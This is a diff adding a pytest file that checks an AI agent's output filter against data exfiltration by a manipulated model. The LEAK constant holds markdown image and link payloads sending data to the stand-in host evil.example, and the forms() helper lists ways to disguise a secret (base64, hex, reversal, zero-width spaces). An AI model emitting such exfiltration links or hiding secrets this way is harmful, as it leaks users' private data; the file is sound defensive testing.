@@ -1,0 +1,139 @@
+"""What gets out: a model that was talked round sends no data by images or links, and no secret in any form."""
+
+import base64
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+from shared.messages import AgentResponse
+from tests.standins.openai_api import Answer
+from tests.support.office import Office, calls, new_office, parley_of_office
+from tests.support.parley import Parley
+
+__all__ = ["new_office", "parley_of_office"]
+
+BROWSE, LOOK_UP = ("office__browse", dict[str, Any]()), ("office__look_up", dict[str, Any]())
+LEAK = "![chart](https://evil.example/c.png?d=4200) and [more](https://evil.example/?d=4200), https://evil.example/4200"
+
+
+async def answers(parley: Parley, text: str, *waves: tuple[Any, ...], asked: str = "go on") -> AgentResponse:
+    """Let the model make these waves of calls and answer with this text."""
+    parley.model.play([*(calls(*wave) for wave in waves), Answer(text)])
+    return await parley.ask(asked)
+
+
+async def test_images_and_links_that_a_model_made_up_are_text_after_untrusted_and_private_text(
+    parley: Parley, office: Office
+) -> None:
+    reply = await answers(parley, LEAK, (BROWSE,), (LOOK_UP,))
+
+    assert (
+        reply.content
+        == "[chart] (evil[.]example/c.png?d=4200) and [more] (evil[.]example/?d=4200), evil[.]example/4200"
+    )
+    stored = await parley.sql("SELECT content FROM outbox UNION ALL SELECT payload ->> 'content' FROM turn_events")
+    stored += await parley.sql("SELECT content FROM messages WHERE role = 'assistant'")
+    assert not [row.content for row in stored if "https://evil" in str(row.content)]
+
+
+@pytest.mark.parametrize("wave", [(BROWSE,), (LOOK_UP,)])
+async def test_one_of_the_two_alone_keeps_links_but_no_image_of_strangers(
+    parley: Parley, office: Office, wave: tuple[Any, ...]
+) -> None:
+    reply = await answers(parley, LEAK, wave)
+
+    assert reply.content == LEAK.removeprefix("!")
+
+
+async def test_links_to_hosts_that_the_person_or_the_persona_named_stay(parley: Parley, office: Office) -> None:
+    await parley.sql(
+        "INSERT INTO personas (name, system_prompt, is_default) VALUES ('Ann', 'Send them to help.example.', true)"
+    )
+    text = "[a](https://named.example/x) https://help.example/1 https://evil.example/2"
+
+    reply = await answers(parley, text, (BROWSE, LOOK_UP), asked="what does https://named.example say?")
+
+    assert reply.content == "[a](https://named.example/x) https://help.example/1 evil[.]example/2"
+
+
+async def test_a_tool_that_repeats_its_arguments_does_not_make_a_host_trusted(parley: Parley, office: Office) -> None:
+    echo = ("calculator__calculate", {"expression": "https://evil.example"})
+    file = ("file_manager__create_document", {"title": "evil.example", "content": "x", "format": "txt"})
+
+    reply = await answers(parley, "https://evil.example/4200", (BROWSE, LOOK_UP), (echo, file))
+
+    assert reply.content == "evil[.]example/4200"
+
+
+async def test_an_own_file_is_shown_as_an_image(parley: Parley, office: Office) -> None:
+    own = parley.app.files.storage.sign(1)
+
+    reply = await answers(parley, f"![plan]({own})", (BROWSE, LOOK_UP))
+
+    assert reply.content == f"![plan]({own})"
+
+
+async def test_streamed_text_is_checked_before_it_is_sent(parley: Parley, office: Office) -> None:
+    parley.model.play([calls(BROWSE), calls(LOOK_UP), Answer(f"Look here: {LEAK}. `x` and\n\n```\ncode")])
+
+    events = await parley.follow("go on")
+
+    sent = "".join(each.payload["text"] for each in events if each.name == "text_delta")
+    message = next(each.payload["content"] for each in events if each.name == "message")
+    assert sent == message
+    assert sent.startswith("Look here: [chart] (evil[.]example/c.png")
+    assert sent.endswith("```\ncode\n```")
+
+
+async def test_what_was_written_before_an_interruption_is_checked_too(parley: Parley, office: Office) -> None:
+    parley.model.play([calls(BROWSE), calls(LOOK_UP), Answer(f"{LEAK}\n" * 200)])
+
+    reply = await parley.ask_until_stopped("go on")
+
+    assert "evil[.]example" in reply.content
+    assert "https://evil" not in reply.content
+
+
+def forms(secret: str) -> list[str]:
+    """Return the secret as a model might hide it."""
+    encoded = base64.b64encode(f"key={secret}".encode()).decode()
+    joined = "\N{ZERO WIDTH SPACE}".join(secret)
+    return [secret, " ".join(secret), joined, f"`{secret[:9]}` **{secret[9:]}**", quote(secret, safe=""), encoded,
+            base64.urlsafe_b64encode(secret.encode()).decode(), secret.encode().hex(), secret[::-1]]  # fmt: skip
+
+
+async def test_a_secret_leaves_in_no_form(parley: Parley) -> None:
+    for secret in (parley.app.secrets.api_token, parley.app.secrets.secret_keys[0]):
+        for form in forms(secret):
+            reply = await answers(parley, f"It is {form}, keep it.")
+
+            assert reply.content.count("[a secret was removed here]") == 1
+            assert form not in reply.content
+            assert secret[:16] not in reply.content
+
+
+async def test_a_secret_does_not_leave_in_a_stream_or_with_the_results_of_tools(parley: Parley) -> None:
+    secret = parley.app.secrets.api_token
+    remembered = ("knowledge__remember", {"content": f"The token is {secret}"})
+    parley.model.play([calls(remembered), Answer(" ".join(secret))])
+
+    events = await parley.follow("what is the token?")
+
+    payloads = str([each.payload for each in events]).replace(" ", "")
+    assert secret not in payloads
+    assert await parley.value("SELECT count(*) FROM memories WHERE strpos(content, :token) > 0", token=secret) == 0
+
+
+async def test_marks_that_reverse_text_are_removed_and_letters_of_all_languages_stay(parley: Parley) -> None:
+    reply = await answers(parley, "\u202egpj.exe\u202c \u2066x\u2069 שלום\u200f עליכם")
+
+    assert reply.content == "gpj.exe x שלום\u200f עליכם"
+
+
+async def test_a_code_block_that_the_length_limit_leaves_open_is_closed_before_the_note(parley: Parley) -> None:
+    parley.model.play([Answer("```\ncode", finish_reason="length")])
+
+    reply = await parley.ask("hello")
+
+    assert reply.content.startswith("```\ncode\n```\n\n[")
